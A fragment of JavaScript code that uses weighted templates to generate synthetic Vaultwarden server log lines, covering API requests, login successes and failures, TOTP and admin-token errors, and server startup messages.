    t(4, (r) => { const [route, p, st] = r.pick(VWPOST); return `${vw(r, 'response', 'INFO')}(${route}) POST ${p(r)} => ${st}`; }),
    t(2, (r) => { const [, p] = r.pick(VWPUT); return `${vw(r, 'request', 'INFO')}PUT ${p(r)}`; }),
    t(2, (r) => { const [route, p, st] = r.pick(VWPUT); return `${vw(r, 'response', 'INFO')}(${route}) PUT ${p(r)} => ${st}`; }),
    t(0.6, (r) => { const [, p] = r.pick(VWDEL); return `${vw(r, 'request', 'INFO')}DELETE ${p(r)}`; }),
    t(0.6, (r) => { const [route, p, st] = r.pick(VWDEL); return `${vw(r, 'response', 'INFO')}(${route}) DELETE ${p(r)} => ${st}`; }),
    t(1.5, (r) => `${vw(r, 'vaultwarden::api::identity', 'ERROR')}Username or password is incorrect. Try again. IP: ${r.next() < 0.5 ? r.ip() : vwip(r)}. Username: ${r.next() < 0.7 ? r.pick(VWMAIL) : r.pick(['admin@example.com', 'test@test.com', 'root@example.com'])}.`),
    t(3, (r) => `${vw(r, 'vaultwarden::api::identity', 'INFO')}User ${r.pick(VWMAIL)} logged in successfully. IP: ${vwip(r)}`),
    t(0.4, (r) => { const d = ymd(r); const tm = hms(r); return `[${d} ${tm}.${ms3(r)}][vaultwarden::api::core::two_factor::authenticator][ERROR] Invalid TOTP code! Server time: ${d} ${tm} UTC IP: ${vwip(r)}`; }),
    t(0.3, (r) => `${vw(r, 'vaultwarden::api::admin', 'ERROR')}Invalid admin token. IP: ${r.next() < 0.5 ? r.ip() : vwip(r)}`),
    t(2, (r) => `${vw(r, 'vaultwarden::api::notifications', 'INFO')}Accepting Rocket WS connection from ${vwip(r)}`),
    t(0.15, (r) => `${vw(r, 'start', 'INFO')}Rocket has launched from http://0.0.0.0:80`),
  ] },
];
